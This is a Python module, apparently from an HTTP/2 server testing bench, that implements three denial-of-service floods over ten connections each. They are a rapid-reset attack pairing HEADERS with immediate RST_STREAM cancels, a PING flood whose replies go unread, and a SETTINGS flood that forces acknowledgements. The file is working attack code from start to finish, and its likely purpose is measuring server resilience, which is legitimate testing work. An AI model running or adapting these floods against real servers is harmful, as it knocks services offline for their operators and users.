"""Floods of small frames that cost the sender next to nothing."""

from __future__ import annotations

import asyncio

from bench.attack.door import Door
from bench.attack.frames import CANCEL, GREETING, PING, RST_STREAM, frame, head, request, settings
from bench.attack.seen import Seen
from bench.attack.wire import Connection, crowd

CONNECTIONS = 10
AT_ONCE = 100
"""Frames, or pairs of frames, in one write."""
LAST_WORDS_SECONDS = 0.5


async def rapid_reset(door: Door, seen: Seen, count: int) -> None:
    """Ten connections that begin `count` calls each and reset each at once."""
    block = request(door.cheap)

    def pair(number: int) -> bytes:
        stream = 2 * number + 1
        return head(stream, block) + frame(RST_STREAM, 0, stream, CANCEL)

    async with crowd(door.address, seen, CONNECTIONS) as connections:
        for begin in range(0, count, AT_ONCE):
            pairs = b"".join(pair(number) for number in range(begin, begin + AT_ONCE))
            await asyncio.gather(*(_send(each, pairs) for each in connections))
        await asyncio.sleep(LAST_WORDS_SECONDS)


async def ping_flood(door: Door, seen: Seen, count: int) -> None:
    """Ten connections that send `count` pings each and read none of the answers."""
    await _unread(door, seen, frame(PING, 0, 0, bytes(8)), count)


async def settings_flood(door: Door, seen: Seen, count: int) -> None:
    """Ten connections that send `count` settings each, all of which must be acknowledged, and read nothing."""
    await _unread(door, seen, settings({4: 65_535}), count)


async def _unread(door: Door, seen: Seen, one: bytes, count: int) -> None:
    async with crowd(door.address, seen, CONNECTIONS, greeting=GREETING, listens=False) as connections:
        await asyncio.gather(*(_flood(each, one * AT_ONCE, count // AT_ONCE) for each in connections))
        for connection in connections:
            connection.listen()
        await asyncio.sleep(LAST_WORDS_SECONDS)


async def _flood(connection: Connection, part: bytes, times: int) -> None:
    try:
        async with asyncio.timeout(UNREAD_SECONDS):
            for _ in range(times):
                if not await _send(connection, part):
                    break
    except TimeoutError:
        pass  # the target waits until its answers are read, as it should


async def _send(connection: Connection, part: bytes) -> bool:
    connection.send(part)
    return await connection.flush()


UNREAD_SECONDS = 4.0
